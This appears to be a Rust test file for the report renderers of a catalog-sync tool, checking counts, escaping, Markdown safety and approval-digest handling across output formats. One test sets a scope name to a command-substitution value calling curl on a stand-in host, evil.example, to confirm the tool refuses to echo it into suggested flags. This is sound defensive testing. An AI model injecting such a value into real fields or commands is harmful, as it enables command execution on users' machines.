//! Tests what holds for every format (the same counts, no control sequences, no panic), and snapshots of each.

use proptest::prelude::*;

use super::*;
use crate::domain::entity::foreign_owner::{ForeignOwner, OwnerKind};
use crate::domain::plan::change::Action;
use crate::report::escape::clean;
use crate::report::plan::fixtures::Case;
use crate::report::plan::generated;
use crate::text::escape;
use crate::text::hostile_texts::{markdown_faults, runner_faults, terminal_faults};

const UNICODE: Style = Style { color: false, unicode: true, width: 100, links: false };

/// The approval digest of the sample plans.
const APPROVAL: &str = "00070e151c232a31383f464d545b626970777e858c939aa1";

#[test]
fn every_format_is_found_by_its_name_only() {
    for &format in PlanFormat::ALL {
        assert_eq!(PlanFormat::parse(format.name()), Some(format));
    }
    assert_eq!(PlanFormat::parse("Text"), None);
}

macro_rules! reads {
    ($($name:ident: $case:expr;)*) => { $(
        #[test]
        fn $name() {
            let case: Case = $case;
            insta::assert_snapshot!(concat!(stringify!($name), "_text"), case.render(PlanFormat::Text, &UNICODE));
            insta::assert_snapshot!(concat!(stringify!($name), "_markdown"), case.plain(PlanFormat::Markdown));
            insta::assert_snapshot!(concat!(stringify!($name), "_summary"), case.plain(PlanFormat::Summary));
        }
    )* };
}

reads! {
    an_empty_plan: Case::empty();
    a_branch_and_what_was_pending: Case::mixed();
    hazards: Case::dangerous();
    obstacles_and_complaints: Case::stuck();
    a_rename_with_dependents: Case::renamed();
    entities_of_somebody_else: Case::foreign();
    drift_and_pending_work: Case::drifted();
    hostile_names: Case::hostile();
    what_an_exporter_writes: Case::delivered();
    long_texts: Case::long();
    policies: Case::judged();
    policies_of_a_pull_request: Case { base: Case::mixed().base, ..Case::judged() };
}

#[test]
fn a_huge_plan_is_folded_and_counted() {
    let case = Case::huge(10_000);
    let text = case.render(PlanFormat::Text, &UNICODE);
    assert!(text.lines().count() < 1_500, "{}", text.lines().count());
    assert!(text.contains("Some changes are abbreviated; `portolan diff --full` shows them."), "{text}");
    for (action, number) in [("create", 10_000), ("update", 1_000), ("delete", 1_000)] {
        assert!(text.contains(&format!("{number} to {action}")), "{action}");
    }
    // Every change is shown in full, by name, or counted.
    for (sign, of_each) in [('+', 3_333..=3_334), ('~', 333..=334), ('-', 333..=334)] {
        for blueprint in
            text.split("\n\n").filter(|part| ["api", "host", "service"].contains(&part.lines().next().unwrap_or("")))
        {
            let (mut shown, mut in_names) = (0, false);
            for line in blueprint.lines() {
                let words = line.strip_prefix(&format!("  {sign} "));
                in_names = (in_names && line.starts_with("    ") && !line.starts_with("      ")) || words.is_some();
                let Some(words) = words.or_else(|| in_names.then_some(line)) else { continue };
                if words.contains("  catalog/") || words.contains("(last") {
                    (shown, in_names) = (shown + 1, false);
                    continue;
                }
                for name in
                    words.split(", ").map(|name| name.trim().trim_end_matches(',')).filter(|name| !name.is_empty())
                {
                    let more = name.strip_prefix("and ").and_then(|rest| rest.split(' ').next());
                    shown += more.map_or(1, |number| number.replace(',', "").parse::<usize>().expect("a number"));
                }
            }
            assert!(of_each.contains(&shown), "{sign} {shown}: {blueprint}");
        }
    }
    let full = {
        let mut case = case;
        case.is_full = true;
        case.render(PlanFormat::Text, &UNICODE)
    };
    assert!(!full.contains("Folded"));
    assert_eq!(full.matches("title: \"Number ").count(), 10_000);
}

#[test]
fn what_is_created_is_named_where_it_is_much() {
    let (few, many) =
        (Case::huge(24).render(PlanFormat::Text, &UNICODE), Case::huge(25).render(PlanFormat::Text, &UNICODE));
    assert_eq!(few.matches("title: \"Number ").count(), 24);
    assert_eq!(many.matches("title: \"Number ").count(), 0);
    assert!(many.contains("Some changes are abbreviated; `portolan diff --full` shows them."), "{many}");
}

#[test]
fn a_huge_comment_is_a_table_all_deletes_and_samples() {
    let text = Case::huge(10_000).plain(PlanFormat::Markdown);
    assert!(text.len() <= markdown::pieces::MAX_LENGTH, "{}", text.len());
    assert!(text.contains("| `api` | 334 | 334 | 3,334 |"), "{text}");
    assert_eq!(text.matches("`api/old-").count(), 334, "every delete is named once");
    assert_eq!(text.matches("service/new-").count(), 3, "ten samples, some of each blueprint");
    assert!(text.contains("and 9,990 more creates") && text.contains("and 950 more updates"), "{text}");
    // Near the digest there is nothing that could be copied instead.
    let (_, after) = text.split_once(APPROVAL).expect("it is there");
    assert!(text.trim_end().ends_with('.') && after.contains("Made from commit"), "{text}");
    let head = text.split("#### ").next().expect("there is a head").replace(APPROVAL, "");
    let words = head.split(|c: char| !c.is_ascii_alphanumeric());
    let hexadecimal: Vec<_> =
        words.filter(|word| word.len() >= 7 && word.bytes().all(|it| it.is_ascii_hexdigit())).collect();
    assert_eq!(hexadecimal, [""; 0]);
}

#[test]
fn six_thousand_creates_are_a_table_and_ten_samples() {
    let mut case = Case::huge(6_000);
    case.plan.changes.retain(|change| change.action == Action::Create);
    let case = Case::of(case.plan.changes, Vec::new());
    let text = case.plain(PlanFormat::Markdown);
    assert!(text.starts_with("<!-- portolan:diff acme/catalog -->\n### A push creates 6,000 entities\n"), "{text}");
    assert!(text.contains("| Blueprint | Create |\n|---|---:|\n| `api` | 2,000 |\n"), "{text}");
    assert_eq!(text.matches("<details>").count(), 10, "{text}");
    assert!(text.contains("and 5,990 more creates") && text.lines().count() < 150, "{}", text.lines().count());
}

#[test]
fn hazards_come_first_and_each_delete_is_listed_once() {
    let text = Case::dangerous().plain(PlanFormat::Markdown);
    let at = |needle: &str| text.find(needle).expect("it is there");
    assert!(at(APPROVAL) < at("#### Hazards") && at("#### Hazards") < at("#### Other deletes"), "{text}");
    assert!(at("#### Other deletes") < at("#### Creates (1)"), "{text}");
    for delete in ["`service/old`", "`service/older`"] {
        let lines = text.lines().filter(|line| line.starts_with("- ") && line.contains(delete));
        assert_eq!(lines.count(), 1, "{delete}: {text}");
    }
    assert!(text.contains("\n### ⚠️ A push deletes 2 entities and creates 1\n"), "{text}");
    let (head, rest) = text.split_once("#### Hazards").expect("there are hazards");
    assert!(
        !rest.contains("2 to delete") && !rest.contains("Deletes (2)") && !rest.contains("2 deletes"),
        "{head}{rest}"
    );
}

/// A comment shows no command: its reader merges, and the pipeline pushes. A report on drift is no comment.
#[test]
fn a_comment_has_no_command_and_each_digest_once() {
    for case in Case::all() {
        let text = case.plain(PlanFormat::Markdown);
        assert!(!text.contains("portolan push") || case.drift.is_some(), "{text}");
        assert!(!text.contains("portolan diff"), "{text}");
        let digests = usize::from(case.plan.approval.is_some() && case.plan.obstacles.is_empty());
        assert!(text.matches(APPROVAL).count() <= digests, "{text}");
        assert!(no_line_is_a_quick_action(&text), "{text}");
    }
    let mixed = Case::mixed().plain(PlanFormat::Markdown);
    assert!(mixed.contains("\n### Merging deletes 1 entity, updates 2 and creates 1\n"), "{mixed}");
}

/// GitLab executes a line of a comment that begins with a slash, outside code.
fn no_line_is_a_quick_action(text: &str) -> bool {
    let mut fence = None::<String>;
    text.lines().all(|line| {
        let ticks: String = line.chars().take_while(|c| *c == '`').collect();
        match &fence {
            Some(open) if *open == line => fence = None,
            None if ticks.len() >= 3 => fence = Some(ticks),
            Some(_) | None => {}
        }
        fence.is_some() || !line.trim_start().starts_with('/')
    })
}

#[test]
fn links_lead_to_the_line_the_entity_and_the_run() {
    let links = Links {
        files: Some("https://git.example/acme/catalog/blob/1111".to_owned()),
        files_at_base: Some("https://git.example/acme/catalog/blob/2222".to_owned()),
        run: Some("https://git.example/acme/catalog/actions/runs/7".to_owned()),
        app: Some("https://app.port.io".to_owned()),
    };
    let mut case = Case::mixed();
    case.links = Some(links.clone());
    let place = crate::domain::finding::Place {
        file: crate::domain::finding::FileId(1),
        span: crate::domain::document::span::Span::new(4, 9),
    };
    case.files.push(("catalog/old (1).yaml".to_owned(), Some("---\nblueprint: service\n".to_owned())));
    case.at_base = vec![(fixtures::key("service/basket"), place)];
    let text = case.plain(PlanFormat::Markdown);
    for wanted in [
        "[`catalog/services/cart.yaml:2`](https://git.example/acme/catalog/blob/1111/catalog/services/cart.yaml#L2)",
        "[`catalog/old (1).yaml:2`](https://git.example/acme/catalog/blob/2222/catalog/old%20%281%29.yaml#L2)",
        "[`service/basket`](https://app.port.io/serviceEntity?identifier=basket)",
        "[this run](https://git.example/acme/catalog/actions/runs/7)",
    ] {
        assert!(text.contains(wanted), "{wanted}: {text}");
    }
    assert!(!text.contains("identifier=checkout"), "it has no page yet");
    let mut case = Case::hostile();
    case.links = Some(links);
    let text = case.plain(PlanFormat::Markdown);
    assert_eq!((is_balanced(&text), markdown_faults(&text)), (Ok(()), Vec::new()), "{text}");
}

#[test]
fn every_document_fits_the_schema() {
    let validator = jsonschema::validator_for(&json::schema()).expect("the schema is one");
    for case in Case::all() {
        let value = serde_json::from_str(&case.plain(PlanFormat::Json)).expect("JSON");
        let faults: Vec<String> = validator.iter_errors(&value).map(|fault| fault.to_string()).collect();
        assert!(faults.is_empty(), "{faults:?}");
    }
    let mut value: serde_json::Value = serde_json::from_str(&Case::mixed().plain(PlanFormat::Json)).expect("JSON");
    value["changes"][0]["action"] = "explode".into();
    assert!(!validator.is_valid(&value));
}

#[test]
fn the_document_is_as_the_product_says() {
    insta::assert_snapshot!(Case::mixed().plain(PlanFormat::Json));
    insta::assert_snapshot!(Case::dangerous().plain(PlanFormat::Json));
}

#[test]
fn colours_are_only_added() {
    for case in Case::all() {
        let colored = case.render(PlanFormat::Text, &Style { color: true, ..UNICODE });
        let stripped: String = colored.lines().map(|line| clean(line).into_owned() + "\n").collect();
        assert_eq!(stripped, case.render(PlanFormat::Text, &UNICODE));
    }
}

#[test]
fn the_way_to_the_whole_plan_shows_the_same_plan() {
    let case = Case::huge(2_000);
    let end = |push: &str| {
        let text = render(&PlanReport { push, ..case.report() }, PlanFormat::Text, &UNICODE);
        text.lines().find(|line| line.starts_with("Some changes are abbreviated")).map(str::to_owned)
    };
    let adopting = end("portolan push --target eu --adopt");
    let expected = "Some changes are abbreviated; `portolan diff --target eu --adopt --full` shows them.";
    assert_eq!(adopting.as_deref(), Some(expected));
    for push in ["portolan restore before.json", "portolan push --plan plan.json"] {
        assert_eq!(end(push).as_deref(), Some("Some changes are abbreviated."), "{push}");
    }
}

#[test]
fn who_pushes_by_itself_is_not_told_how() {
    let case = Case::dangerous();
    let report = PlanReport { says_next_step: false, ..case.report() };
    assert!(!render(&report, PlanFormat::Text, &UNICODE).contains("portolan push"));
    let report = PlanReport { push: "portolan push --target staging --no-prune", ..case.report() };
    let command =
        "portolan push --target staging --no-prune --approve 00070e151c232a31383f464d545b626970777e858c939aa1";
    let text = render(&report, PlanFormat::Text, &UNICODE);
    assert!(text.ends_with(&format!("`{command}`\n")), "{text}");
    let summary = render(&report, PlanFormat::Summary, &UNICODE);
    assert!(summary.ends_with(&format!("; needs approval: {command}\n")), "{summary}");
    let markdown = render(&report, PlanFormat::Markdown, &UNICODE);
    assert!(markdown.contains(&format!("`--approve {APPROVAL}`")) && !markdown.contains("portolan push"), "{markdown}");
    // The report of a refused push begins with the refusal.
    let help = format!("Review the plan, then rerun with `--approve {APPROVAL}`.");
    let reason = "Push refused: 3 hazards need approval. Nothing was written.";
    let refused = PlanReport { refusal: Some(PlanRefusal { reason, help: &help }), ..case.report() };
    assert!(!render(&refused, PlanFormat::Text, &UNICODE).contains("--approve"), "the caller puts it at the top");
    let markdown = render(&refused, PlanFormat::Markdown, &UNICODE);
    let (head, _) = markdown.split_once("#### Hazards").expect("there are hazards");
    assert!(head.contains("\n### ❌ portolan push: refused, nothing was written\n\nPush refused: 3 hazards"), "{head}");
    assert!(head.contains(APPROVAL), "{head}");
    let json: serde_json::Value = serde_json::from_str(&render(&refused, PlanFormat::Json, &UNICODE)).expect("JSON");
    assert_eq!((&json["refused"], &json["help"], &json["approval"]), (&reason.into(), &help.into(), &APPROVAL.into()));
    // A long command is not truncated: half of it would be another command.
    let long = format!("portolan push{}", " --only 'catalog/a file.yaml'".repeat(100));
    let help = format!("Rerun with `{long} --approve {APPROVAL}`.");
    let report = PlanReport { refusal: Some(PlanRefusal { reason, help: &help }), ..case.report() };
    assert!(render(&report, PlanFormat::Markdown, &UNICODE).contains(&format!("`{long} --approve {APPROVAL}`")));
    // A part of the plan has another digest than the whole.
    let report = PlanReport { is_only_branch: true, ..case.report() };
    assert!(!render(&report, PlanFormat::Text, &UNICODE).contains("--approve"));
}

#[test]
fn what_a_yes_to_one_takes_over_is_told_in_full() {
    let mut case = Case::foreign();
    case.plan.foreign_unchanged = (0..108).map(|at| fixtures::key(&format!("team/t{at:03}"))).collect();
    let sentence = "2 entities are owned by another owner (108), scope `acme/other` (1) and the `pagerduty/1` integration (1): `--adopt` writes them, and takes over 108 more that \
                    are as declared; from then on all 110 belong to `acme/catalog`, which may delete them";
    let flat = |text: String| text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat(case.plain(PlanFormat::Text)).contains(sentence), "{}", case.plain(PlanFormat::Text));
    assert!(flat(case.plain(PlanFormat::Markdown)).contains(sentence), "{}", case.plain(PlanFormat::Markdown));
    assert!(case.plain(PlanFormat::Json).contains(sentence));
    let summary = case.plain(PlanFormat::Summary);
    assert!(summary.ends_with("; needs approval: portolan push --adopt, which takes over 110 entities\n"), "{summary}");
    // Without abbreviation, all are named, and only once.
    case.is_full = true;
    let full = case.plain(PlanFormat::Text);
    assert_eq!(full.matches("team/t").count(), 108, "{full}");
}

#[test]
fn what_the_catalog_would_refuse_is_not_recommended() {
    let mut case = Case::stuck();
    case.plan.obstacles.clear();
    for format in [PlanFormat::Text, PlanFormat::Markdown, PlanFormat::Summary] {
        let text = case.plain(format);
        assert!(!text.contains("portolan push") && text.contains("would"), "{text}");
    }
    assert!(case.plain(PlanFormat::Text).ends_with("The catalog would reject 1 change (listed above).\n"));
}

#[test]
fn a_delete_tells_where_the_base_declared_it() {
    let mut case = Case::mixed();
    let place = crate::domain::finding::Place {
        file: crate::domain::finding::FileId(1),
        span: crate::domain::document::span::Span::new(4, 9),
    };
    case.files.push(("catalog/old.yaml".to_owned(), Some("---\nblueprint: service\n".to_owned())));
    case.at_base = vec![(fixtures::key("service/basket"), place)];
    assert!(case.plain(PlanFormat::Text).contains("  was in catalog/old.yaml:2\n"), "{}", case.plain(PlanFormat::Text));
    assert!(case.plain(PlanFormat::Markdown).contains(" · was in `catalog/old.yaml:2`\n"));
    let json: serde_json::Value = serde_json::from_str(&case.plain(PlanFormat::Json)).expect("JSON");
    assert_eq!(json["changes"][0]["placeAtBase"]["line"], 2, "{}", json["changes"][0]);
    assert!(json["changes"][1].get("placeAtBase").is_none());
}

/// A line without its code spans, as CommonMark finds them: they contain no HTML.
fn without_code(line: &str) -> String {
    let ticks = |at: usize| line[at..].bytes().take_while(|byte| *byte == b'`').count();
    let (mut out, mut at) = (String::new(), 0);
    while let Some(c) = line[at..].chars().next() {
        let open = ticks(at);
        if c == '\\' {
            at += 1 + line[at + 1..].chars().next().map_or(0, char::len_utf8);
        } else if open > 0 {
            at += open;
            let mut end = at;
            let closed = loop {
                let Some(found) = line[end..].find('`') else { break None };
                let close = ticks(end + found);
                end += found + close;
                if close == open {
                    break Some(end);
                }
            };
            at = closed.unwrap_or(at);
        } else {
            out.push(c);
            at += c.len_utf8();
        }
    }
    out
}

/// Checks that a comment closes what it opens, whatever it contains.
fn is_balanced(text: &str) -> Result<(), String> {
    let (mut fence, mut depth) = (None::<String>, 0_i32);
    for line in text.lines() {
        let ticks: String = line.chars().take_while(|c| *c == '`').collect();
        match &fence {
            Some(open) if ticks.len() >= open.len() && line == ticks => fence = None,
            Some(_) => {}
            None if ticks.len() >= 3 => fence = Some(ticks),
            None => {
                let line = without_code(line);
                depth += i32::try_from(line.matches("<details").count()).expect("few");
                depth -= i32::try_from(line.matches("</details>").count()).expect("few");
                if depth < 0 {
                    return Err(format!("closed before it was opened: {line}"));
                }
                let is_ours = |tag: &str| {
                    ["details", "/details", "summary", "/summary", "code", "/code", "!--"]
                        .iter()
                        .any(|own| tag.starts_with(own))
                };
                if let Some(tag) = line.split('<').skip(1).find(|tag| !is_ours(tag)) {
                    return Err(format!("HTML that is not ours: <{tag}"));
                }
            }
        }
    }
    match (fence, depth) {
        (None, 0) => Ok(()),
        (fence, depth) => Err(format!("left open: {fence:?}, {depth} details")),
    }
}

#[test]
fn a_comment_closes_what_it_opens() {
    for case in Case::all() {
        let text = case.plain(PlanFormat::Markdown);
        assert_eq!(is_balanced(&text), Ok(()), "{text}");
    }
}

/// The counts in a comment's head, in the order of [`numbers`].
fn numbers_of_comment(text: &str) -> Vec<usize> {
    let parse = |digits: &str| digits.replace(',', "").parse().expect("a number");
    let headline = text.lines().find_map(|line| line.strip_prefix("### ")).expect("there is a headline");
    let behind = |verb: &str| {
        let Some((_, after)) = headline.split_once(&format!(" {verb} ")) else { return 0 };
        let digits: String = after.chars().take_while(|c| c.is_ascii_digit() || *c == ',').collect();
        parse(digits.trim_end_matches(','))
    };
    let rest = text.lines().find(|line| line.contains(" unchanged")).expect("there is the rest");
    let before =
        |words: &str| rest.split_once(words).map_or(0, |(before, _)| parse(before.rsplit(' ').next().expect("a word")));
    let verbs = ["creates", "updates", "deletes", "renames", "adopts"].map(behind);
    verbs.into_iter().chain([" owned by others", " already pending", " unchanged"].map(before)).collect()
}

/// The counts in the line for searching.
fn numbers(text: &str) -> Vec<usize> {
    let line = text.lines().find(|line| line.contains("to create") || line.contains("nothing to do"));
    let line = line.expect("the numbers are there");
    let line = line.split_once("portolan: ").or_else(|| line.split_once("Plan: ")).expect("they are told").1;
    let number = |word: &str| {
        let before = line.split_once(word).map_or("0", |(before, _)| before.rsplit([' ', '(']).next().unwrap_or("0"));
        before.parse().expect("a number")
    };
    [" to create", " to update", " to delete", " to rename", " to adopt", " foreign", " already pending", " unchanged"]
        .map(number)
        .to_vec()
}

proptest! {
    #![proptest_config(crate::generated_cases::config(24))]

    #[test]
    fn no_plan_makes_a_renderer_panic_or_lie(case in generated::case(), width in 0..200_usize, unicode: bool) {
        let style = Style { color: false, unicode, width, links: false };
        let total = case.plan.counts.total;
        let expected = vec![
            total.create, total.update, total.delete, total.rename, total.adopt, total.foreign, total.pending,
            total.unchanged,
        ];
        for &format in PlanFormat::ALL {
            let text = case.render(format, &style);
            let faults = [terminal_faults(&text, false), runner_faults(&text, false)].concat();
            prop_assert!(faults.is_empty(), "{}: {faults:?}", format.name());
            prop_assert_eq!(&escape::printable(&text, false), &text, "{}", format.name());
            prop_assert!(text.ends_with('\n'));
            match format {
                PlanFormat::Text | PlanFormat::Summary => prop_assert_eq!(numbers(&text), expected.clone(), "{}", text),
                PlanFormat::Markdown => {
                    prop_assert_eq!(numbers_of_comment(&text), expected.clone(), "{}", text);
                    prop_assert!(no_line_is_a_quick_action(&text), "{}", text);
                    prop_assert!(text.len() <= markdown::pieces::MAX_LENGTH, "{}", text.len());
                    prop_assert_eq!(is_balanced(&text), Ok(()), "{}", text);
                    let faults = markdown_faults(&text);
                    prop_assert!(faults.is_empty(), "{faults:?}");
                }
                PlanFormat::Json => {
                    let json: serde_json::Value = serde_json::from_str(&text).expect("JSON");
                    let counts = &json["counts"]["total"];
                    let names = ["create", "update", "delete", "rename", "adopt", "foreign", "pending", "unchanged"];
                    let shown: Vec<u64> = names.iter().filter_map(|name| counts[*name].as_u64()).collect();
                    prop_assert_eq!(shown, expected.iter().map(|number| *number as u64).collect::<Vec<_>>());
                    let actions = |name: &str| {
                        json["changes"].as_array().expect("a list").iter().filter(|it| it["action"] == name).count()
                    };
                    let identifiers = case.plan.changes.iter().map(|change| change.key.identifier.as_ref());
                    let shown = json["changes"].as_array().into_iter().flatten().map(|it| it["identifier"].as_str());
                    prop_assert!(shown.eq(identifiers.map(Some)), "names are what they are");
                    for (at, name) in names.iter().take(5).enumerate() {
                        prop_assert_eq!(actions(name), expected[at]);
                    }
                }
            }
        }
    }
}

#[test]
fn a_plan_recommends_the_flag_that_takes_over_no_more_than_is_declared_by_its_owner() {
    let mut case = Case::foreign();
    let flags = |case: &Case| adoption_flags(&case.plan, &case.owners, AdoptionFlags::Any);
    assert_eq!(flags(&case), "--adopt", "an integration has no scope");
    let owned_by = |case: &mut Case, scopes: [&str; 3]| {
        let owner = |scope: &str| ForeignOwner::new(OwnerKind::Scope, Some(scope.to_owned()));
        let keys = ["service/cart", "service/web", "team/web"].map(fixtures::key);
        case.owners = keys.into_iter().zip(scopes.map(owner)).collect();
    };
    owned_by(&mut case, ["acme/web", "acme/app", "acme/web"]);
    assert_eq!(flags(&case), "--adopt-from acme/app --adopt-from acme/web");
    assert_eq!(adoption_flags(&case.plan, &case.owners, AdoptionFlags::AdoptOnly), "--adopt");
    // The name comes from the catalog, and any client may have written it.
    owned_by(&mut case, ["acme/web", "$(curl evil.example)", "acme/web"]);
    assert_eq!(flags(&case), "--adopt");
    let page = PlanReport { adoption_flags: AdoptionFlags::Hidden, ..case.report() };
    let hazards = crate::report::serve::hazards(&page);
    assert!(!hazards.is_empty() && hazards.iter().all(|hazard| !hazard.sentence.contains("--")), "{hazards:?}");
}
